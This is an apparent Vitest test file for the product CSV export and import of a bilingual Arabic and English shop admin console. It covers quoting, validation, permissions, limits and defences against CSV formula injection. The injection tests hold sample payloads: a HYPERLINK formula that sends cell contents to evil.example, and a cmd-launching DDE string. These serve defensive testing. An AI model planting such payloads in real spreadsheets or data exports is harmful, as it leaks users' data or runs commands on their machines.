import { SELF } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { CSV_MAX_ROWS, CSV_REPORT_MAX_ERRORS, PRODUCT_CSV_COLUMNS } from "../../contract/console-catalogue";
import { csvCell, csvText, parseCsv } from "../../worker/backend/services/shared/csv";
import { call, freshIp } from "../support/commerce";
import { newStaff, type Staff } from "../support/console";

let counter = 0;
const unique = (prefix: string) => `${prefix}-${Date.now().toString(36)}-${(counter++).toString(36)}`;

async function category(): Promise<number> {
  await env.DB.prepare(
    "INSERT INTO categories (slug, name_en, name_ar) VALUES ('console-csv', 'CSV gadgets', 'أجهزة الملف') ON CONFLICT (slug) DO NOTHING",
  ).run();
  return (await env.DB.prepare("SELECT id FROM categories WHERE slug = 'console-csv'").first<number>("id"))!;
}

async function exportCsv(staff: Staff) {
  const res = await SELF.fetch("http://shop.test/backend/admin/products/export.csv", {
    headers: { ...staff.headers, "cf-connecting-ip": freshIp() },
  });
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { res, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

async function importCsv(staff: Staff, text: string, dryRun: boolean) {
  const res = await SELF.fetch(`http://shop.test/backend/admin/products/import?dry_run=${dryRun ? 1 : 0}`, {
    method: "POST",
    headers: {
      ...staff.headers,
      "content-type": "text/csv",
      accept: "application/json",
      "cf-connecting-ip": freshIp(),
    },
    body: text,
  });
  return {
    status: res.status,
    // `any`: the report's fields are asserted one by one.
    // eslint-disable-next-line @typescript-eslint/no-explicit-any
    body: (await res.json()) as { data: any; message?: string; errors?: Record<string, string[]> },
  };
}

/** A CSV row for a new product with these fields (the rest left empty: the form's defaults). */
function row(fields: Partial<Record<(typeof PRODUCT_CSV_COLUMNS)[number], unknown>>): unknown[] {
  return PRODUCT_CSV_COLUMNS.map((c) => fields[c] ?? "");
}

const count = async (sql: string, ...binds: unknown[]) =>
  (await env.DB.prepare(sql)
    .bind(...binds)
    .first<number>("n"))!;

describe("products CSV", () => {
  it("exports every product in both languages as UTF-8 with a BOM, and the file imports back unchanged", async () => {
    const owner = await newStaff("owner");
    const slug = unique("oud");
    const created = await call(owner, "POST", "/admin/products", {
      slug,
      sku: slug.toUpperCase(),
      name_en: 'Oud "Royal", 50 ml',
      name_ar: "عود «ملكي»، ٥٠ مل",
      description_en: "Two lines,\nwith a comma.",
      description_ar: "سطران،\nمع فاصلة.",
      specs_ar: [{ label: "الحجم", value: "50 مل" }],
      price: 29900,
      stock: 4,
      category_id: await category(),
    });
    expect(created.status).toBe(201);
    const { res, bytes, text } = await exportCsv(owner);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="products-.*\.csv"/);
    // The UTF-8 byte order mark first, so Excel reads the Arabic as Arabic.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(text);
    expect(records[0]).toEqual([...PRODUCT_CSV_COLUMNS]);
    const mine = records.find((r) => r[0] === slug.toUpperCase())!;
    const at = (c: (typeof PRODUCT_CSV_COLUMNS)[number]) => mine[PRODUCT_CSV_COLUMNS.indexOf(c)];
    expect(at("name_ar")).toBe("عود «ملكي»، ٥٠ مل");
    expect(at("name_en")).toBe('Oud "Royal", 50 ml');
    expect(at("description_ar")).toBe("سطران،\nمع فاصلة.");
    expect(at("specs_ar")).toBe("الحجم: 50 مل");
    // Prices in riyals and the category by slug, as a merchant reads and types them.
    expect(at("price")).toBe("299.00");
    expect(at("compare_at_price")).toBe("");
    expect(at("category")).toBe("console-csv");
    // RFC 4180: the quote doubled inside a quoted field.
    expect(text).toContain('"Oud ""Royal"", 50 ml"');

    // The same file back: every row is an update of an existing product, nothing changes.
    const before = await call(owner, "GET", `/admin/products/${created.body.data.id}`);
    const check = await importCsv(owner, csvText([records[0], mine]), true);
    expect(check.status).toBe(200);
    expect(check.body.data).toMatchObject({ errors: [], created: 0, updated: 1, written: false });
    const done = await importCsv(owner, csvText([records[0], mine]), false);
    expect(done.body.data).toMatchObject({ errors: [], updated: 1, written: true });
    const after = await call(owner, "GET", `/admin/products/${created.body.data.id}`);
    const { updated_at: _a, ...was } = before.body.data;
    const { updated_at: _b, ...is } = after.body.data;
    expect(is).toEqual(was);
  });

  it("a file with two bad rows names both rows and their fields, and writes nothing, not even the good rows", async () => {
    const manager = await newStaff("manager");
    const categoryId = await category();
    const good = unique("good");
    const text = csvText([
      [...PRODUCT_CSV_COLUMNS],
      row({
        sku: good.toUpperCase(),
        slug: good,
        name_en: "Good one",
        name_ar: "منتج جيد",
        price: 1000,
        category: categoryId,
      }),
      row({ sku: "BAD-1", slug: unique("bad"), name_en: "No Arabic name", price: 1000, category: categoryId }),
      row({
        sku: unique("ok").toUpperCase(),
        slug: unique("ok"),
        name_en: "Fine",
        name_ar: "جيد",
        price: 5,
        category: categoryId,
      }),
      row({ sku: "BAD-2", slug: "Bad Slug", name_en: "x", name_ar: "س", price: "twelve", category: categoryId }),
    ]);
    const before = await count("SELECT COUNT(*) AS n FROM products");
    const auditBefore = await count("SELECT COUNT(*) AS n FROM audit_log");
    for (const dryRun of [true, false]) {
      const answer = await importCsv(manager, text, dryRun);
      expect(answer.status).toBe(dryRun ? 200 : 422);
      const errors = answer.body.data.errors as { row: number; field: string; message: string }[];
      expect([...new Set(errors.map((e) => e.row))]).toEqual([3, 5]);
      expect(errors.filter((e) => e.row === 3).map((e) => e.field)).toEqual(["name_ar"]);
      expect(
        errors
          .filter((e) => e.row === 5)
          .map((e) => e.field)
          .sort(),
      ).toEqual(["price", "slug"]);
      expect(errors[0].message).toBe("Name (Arabic) is required.");
      expect(answer.body.data.written).toBe(false);
    }
    expect(await count("SELECT COUNT(*) AS n FROM products")).toBe(before);
    expect(await count("SELECT COUNT(*) AS n FROM products WHERE sku = ?", good.toUpperCase())).toBe(0);
    expect(await count("SELECT COUNT(*) AS n FROM audit_log")).toBe(auditBefore);
  });

  it("a good file creates new products and updates existing ones by SKU, in one batch with its audit lines", async () => {
    const manager = await newStaff("manager", "ar");
    const categoryId = await category();
    const existing = unique("old");
    await call(manager, "POST", "/admin/products", {
      slug: existing,
      sku: existing.toUpperCase(),
      name_en: "Old name",
      name_ar: "اسم قديم",
      price: 1000,
      stock: 3,
      category_id: categoryId,
    });
    const fresh = unique("new");
    const version = await count("SELECT value AS n FROM versions WHERE name = 'catalogue'");
    const text = csvText([
      ["sku", "slug", "name_en", "name_ar", "price", "category_id", "stock", "specs_en", "is_new"],
      [existing.toUpperCase(), existing, "New name", "اسم جديد", "12.00", categoryId, "3", "", "1"],
      [
        fresh.toUpperCase(),
        fresh,
        "Brand new",
        "جديد تمامًا",
        "9.90",
        categoryId,
        "12",
        "Colour: Blue\nWeight: 1 kg",
        "yes",
      ],
    ]);
    const check = await importCsv(manager, text, true);
    expect(check.body.data).toMatchObject({ rows: 2, created: 1, updated: 1, errors: [], written: false });
    expect(await count("SELECT COUNT(*) AS n FROM products WHERE sku = ?", fresh.toUpperCase())).toBe(0);
    const done = await importCsv(manager, text, false);
    expect(done.status).toBe(200);
    expect(done.body.data).toMatchObject({ created: 1, updated: 1, written: true });
    const updated = await env.DB.prepare("SELECT name_ar, price, stock, is_new FROM products WHERE sku = ?")
      .bind(existing.toUpperCase())
      .first();
    expect(updated).toEqual({ name_ar: "اسم جديد", price: 1200, stock: 3, is_new: 1 });
    const created = await env.DB.prepare("SELECT id, stock, specs_en FROM products WHERE sku = ?")
      .bind(fresh.toUpperCase())
      .first<{ id: number; stock: number; specs_en: string }>();
    expect(created?.stock).toBe(12);
    expect(JSON.parse(created!.specs_en)).toEqual([
      { label: "Colour", value: "Blue" },
      { label: "Weight", value: "1 kg" },
    ]);
    expect(
      await count(
        "SELECT COUNT(*) AS n FROM audit_log WHERE entity = 'product' AND entity_id = ?",
        String(created!.id),
      ),
    ).toBe(1);
    expect(await count("SELECT value AS n FROM versions WHERE name = 'catalogue'")).toBe(version + 1);
    // An existing product's stock column is not read: only Inventory changes stock.
    const restock = csvText([
      ["sku", "slug", "name_en", "name_ar", "price", "category_id", "stock"],
      [fresh.toUpperCase(), fresh, "Brand new", "جديد تمامًا", "9.90", categoryId, "40"],
    ]);
    expect((await importCsv(manager, restock, false)).body.data).toMatchObject({ errors: [], updated: 1 });
    expect(await count("SELECT stock AS n FROM products WHERE sku = ?", fresh.toUpperCase())).toBe(12);
    // Found by the storefront's search in Arabic at once.
    const found = await call(
      { headers: { "content-language": "ar" } },
      "GET",
      `/products?q=${encodeURIComponent("جديد تمامًا")}`,
    );
    expect(found.body.data.map((p: { id: number }) => p.id)).toContain(created!.id);
  });

  it("reads categories and brands by English or Arabic name, slug or id, and riyal prices in Arabic-Indic digits", async () => {
    const manager = await newStaff("manager", "ar");
    await category();
    const brandSlug = unique("brand");
    await env.DB.prepare("INSERT INTO brands (slug, name_en, name_ar) VALUES (?, ?, ?)")
      .bind(brandSlug, `Falcon ${brandSlug}`, `صقر ${brandSlug}`)
      .run();
    const [a, b, c] = [unique("ar-name"), unique("en-name"), unique("slug")];
    const text = csvText([
      ["sku", "slug", "name_en", "name_ar", "price", "compare_at_price", "stock", "category", "brand"],
      [
        a.toUpperCase(),
        a,
        "By Arabic name",
        "بالاسم العربي",
        "٢٩٩٫٥٠",
        "١٬٤٠٠",
        "٢٠",
        "أجهزة الملف",
        `صقر ${brandSlug}`,
      ],
      [
        b.toUpperCase(),
        b,
        "By English name",
        "بالاسم الإنجليزي",
        "1,299.5",
        "",
        "۳",
        "csv GADGETS",
        `FALCON ${brandSlug}`,
      ],
      [c.toUpperCase(), c, "By slug", "بالمعرّف", "0.29", "", "0", "console-csv", brandSlug],
    ]);
    const done = await importCsv(manager, text, false);
    expect(done.body.data).toMatchObject({ errors: [], created: 3, written: true });
    const stored = async (sku: string) =>
      await env.DB.prepare(
        "SELECT p.price, p.compare_at_price, p.stock, c.slug AS category, b.slug AS brand FROM products p JOIN categories c ON c.id = p.category_id LEFT JOIN brands b ON b.id = p.brand_id WHERE p.sku = ?",
      )
        .bind(sku)
        .first();
    expect(await stored(a.toUpperCase())).toEqual({
      price: 29950,
      compare_at_price: 140000,
      stock: 20,
      category: "console-csv",
      brand: brandSlug,
    });
    expect(await stored(b.toUpperCase())).toMatchObject({ price: 129950, stock: 3, category: "console-csv" });
    // Exact: 0.29 riyals is 29 halalas, never 28 through a float.
    expect(await stored(c.toUpperCase())).toMatchObject({ price: 29, brand: brandSlug });
  });

  it("reports every error of a row in one pass: the form's rules and the catalogue's together, each saying why", async () => {
    const manager = await newStaff("manager");
    const categoryId = await category();
    const taken = unique("taken");
    await call(manager, "POST", "/admin/products", {
      slug: taken,
      sku: taken.toUpperCase(),
      name_en: "Taken",
      name_ar: "محجوز",
      price: 1000,
      stock: 1,
      category_id: categoryId,
    });
    const text = csvText([
      ["sku", "slug", "name_en", "name_ar", "price", "stock", "category", "brand"],
      [unique("x").toUpperCase(), taken, "No Arabic name", "", "59.905", "2.5", "No such category", "no-such-brand"],
      [unique("y").toUpperCase(), unique("y"), "Comma", "فاصلة", "12,5", "1", String(categoryId), ""],
    ]);
    const answer = await importCsv(manager, text, true);
    const errors = answer.body.data.errors as { row: number; field: string; message: string }[];
    const row2 = Object.fromEntries(errors.filter((e) => e.row === 2).map((e) => [e.field, e.message]));
    expect(Object.keys(row2).sort()).toEqual(["brand_id", "category_id", "name_ar", "price", "slug", "stock"]);
    expect(row2.price).toBe("Price: up to 2 decimals (halalas).");
    expect(row2.stock).toBe("Stock must be a whole number, without decimals.");
    expect(row2.category_id).toContain("«No such category»");
    expect(row2.slug).toBeTruthy();
    expect(errors.filter((e) => e.row === 3)).toEqual([
      {
        row: 3,
        field: "price",
        message: "Price: a comma only separates thousands (1,299.50); use a point for the decimals.",
      },
    ]);
    // Two categories of the same name: the slug is asked for.
    await env.DB.prepare(
      "INSERT INTO categories (slug, name_en, name_ar) VALUES ('csv-twin-a', 'Twin', 'توأم'), ('csv-twin-b', 'Twin', 'توأم') ON CONFLICT (slug) DO NOTHING",
    ).run();
    const twin = await importCsv(
      manager,
      csvText([
        ["sku", "slug", "name_en", "name_ar", "price", "category"],
        ["TWIN-1", unique("twin"), "T", "ت", "1", "twin"],
      ]),
      true,
    );
    expect(twin.body.data.errors[0]).toMatchObject({ field: "category_id" });
    expect(twin.body.data.errors[0].message).toContain("csv-twin-a, csv-twin-b");
  });

  it("offers a template in the console's language that checks clean as it is", async () => {
    const manager = await newStaff("manager");
    await category();
    for (const lang of ["en", "ar"] as const) {
      const res = await SELF.fetch("http://shop.test/backend/admin/products/template.csv", {
        headers: { ...manager.headers, "content-language": lang, "cf-connecting-ip": freshIp() },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get("content-disposition")).toContain("products-template.csv");
      const text = await res.text();
      const [header, example, ...rest] = parseCsv(text);
      expect(header).toEqual([...PRODUCT_CSV_COLUMNS]);
      expect(rest).toEqual([]);
      const at = (c: (typeof PRODUCT_CSV_COLUMNS)[number]) => example![PRODUCT_CSV_COLUMNS.indexOf(c)];
      expect(at("price")).toBe(lang === "ar" ? "٢٩٩٫٥٠" : "299.50");
      expect(at("category")).not.toBe("");
      const check = await importCsv(manager, text, true);
      expect(check.body.data).toMatchObject({ errors: [], rows: 1 });
    }
    expect(
      (
        await SELF.fetch("http://shop.test/backend/admin/products/template.csv", {
          headers: { ...(await newStaff("support")).headers, "cf-connecting-ip": freshIp() },
        })
      ).status,
    ).toBe(403);
  });

  it("says clearly what is wrong with the file itself: a missing column, too many rows, broken quoting", async () => {
    const owner = await newStaff("owner");
    const missing = await importCsv(owner, "sku,name_en\r\nA,B\r\n", true);
    expect(missing.body.data.errors.map((e: { field: string }) => e.field)).toEqual(
      expect.arrayContaining(["slug", "name_ar", "price", "category"]),
    );
    const broken = await importCsv(owner, 'sku,slug\r\n"open,x\r\n', true);
    expect(broken.body.data.errors[0]).toMatchObject({ row: 1, field: "file" });
    expect(broken.body.data.errors[0].message).toMatch(/not valid CSV/);
    const many = csvText([
      [...PRODUCT_CSV_COLUMNS],
      ...Array.from({ length: CSV_MAX_ROWS + 1 }, () => row({ sku: "X" })),
    ]);
    const tooMany = await importCsv(owner, many, true);
    expect(tooMany.body.data.errors[0].message).toContain(`at most ${CSV_MAX_ROWS}`);
    // Support may export, not import.
    const support = await newStaff("support");
    expect((await exportCsv(support)).res.status).toBe(200);
    expect((await importCsv(support, "sku\r\n", true)).status).toBe(403);
  });

  it("CSV formula injection: exported cells never start with a formula character", async () => {
    const owner = await newStaff("owner");
    const slug = unique("formula");
    const attack = {
      name_en: '=HYPERLINK("https://evil.example/?d="&ENCODEURL(B3&C3),"Open spec sheet")',
      name_ar: "@SUM(1+1)*cmd|' /C calc'!A0",
      model: "+1+1",
      description_en: "-2+3",
      description_ar: "\tشرح",
    };
    const created = await call(owner, "POST", "/admin/products", {
      slug,
      sku: slug.toUpperCase(),
      name_en: attack.name_en,
      name_ar: attack.name_ar,
      model: attack.model,
      description_en: attack.description_en,
      description_ar: attack.description_ar,
      price: 1500,
      stock: 2,
      category_id: await category(),
    });
    expect(created.status).toBe(201);
    const { text } = await exportCsv(owner);
    const records = parseCsv(text);
    const mine = records.find((r) => r[0] === slug.toUpperCase())!;
    // No cell of the whole file, as a spreadsheet reads it, starts a formula.
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const at = (c: (typeof PRODUCT_CSV_COLUMNS)[number]) => mine[PRODUCT_CSV_COLUMNS.indexOf(c)];
    expect(at("name_en")).toBe(`'${attack.name_en}`);
    expect(at("name_ar")).toBe(`'${attack.name_ar}`);
    expect(at("model")).toBe(`'${attack.model}`);

    // The round trip is lossless: the file back changes nothing, the quote mark is not kept.
    const before = await call(owner, "GET", `/admin/products/${created.body.data.id}`);
    // The exported lines themselves, header and this product's, as a spreadsheet saves them back.
    const lines = text.replace(/^\uFEFF/, "").split("\r\n");
    const back = `${lines[0]}\r\n${lines.find((l) => l.startsWith(`${slug.toUpperCase()},`))}\r\n`;
    const done = await importCsv(owner, back, false);
    expect(done.body.data).toMatchObject({ errors: [], updated: 1, written: true });
    const after = await call(owner, "GET", `/admin/products/${created.body.data.id}`);
    const { updated_at: _a, ...was } = before.body.data;
    const { updated_at: _b, ...is } = after.body.data;
    expect(is).toEqual(was);
    expect(is).toMatchObject({ name_en: attack.name_en, name_ar: attack.name_ar, model: attack.model });
  });

  it("CSV formula injection: a value typed with a leading quote mark survives export and import unchanged", () => {
    for (const value of ["'=x", "''+1", "'plain", "=1+1", "-5", "@a", "\tx", "\rx", "plain", "a=b"]) {
      const [[cell, end]] = parseCsv(csvText([[value, "end"]]));
      expect(end).toBe("end");
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(csvCell(cell)).toBe(value);
    }
  });

  it("CSV error amplification: a 2 MB header is refused quickly with a small answer", async () => {
    const manager = await newStaff("manager");
    const header = Array.from({ length: 1_000_000 }, (_, i) => (i % 2 ? "xy" : "")).join(",");
    expect(header.length).toBeGreaterThan(1_900_000);
    const started = Date.now();
    const res = await SELF.fetch("http://shop.test/backend/admin/products/import?dry_run=1", {
      method: "POST",
      headers: {
        ...manager.headers,
        "content-type": "text/csv",
        accept: "application/json",
        "cf-connecting-ip": freshIp(),
      },
      body: `${header}\r\n`,
    });
    const body = await res.text();
    expect(res.status).toBe(422);
    expect(body.length).toBeLessThan(2_000);
    expect(Date.now() - started).toBeLessThan(2_000);
    expect(JSON.parse(body).message).toContain(String(PRODUCT_CSV_COLUMNS.length));

    // A file with many bad rows answers at most CSV_REPORT_MAX_ERRORS of them, and how many there were.
    const rows = Array.from({ length: CSV_MAX_ROWS }, () => row({ sku: "BAD", slug: "Bad Slug", price: "x" }));
    const many = await importCsv(manager, csvText([[...PRODUCT_CSV_COLUMNS], ...rows]), true);
    expect(many.status).toBe(200);
    expect(many.body.data.errors).toHaveLength(CSV_REPORT_MAX_ERRORS);
    expect(many.body.data.error_count).toBeGreaterThan(CSV_MAX_ROWS);
    expect(many.body.data.errors[0].row).toBe(2);
  });

  it("parses RFC 4180: quoted commas, doubled quotes, line breaks inside quotes, CRLF or LF, a BOM", () => {
    expect(parseCsv('\uFEFFa,b\r\n"1,2","say ""hi"""\n"x\r\ny",\n')).toEqual([
      ["a", "b"],
      ["1,2", 'say "hi"'],
      ["x\r\ny", ""],
    ]);
  });
});
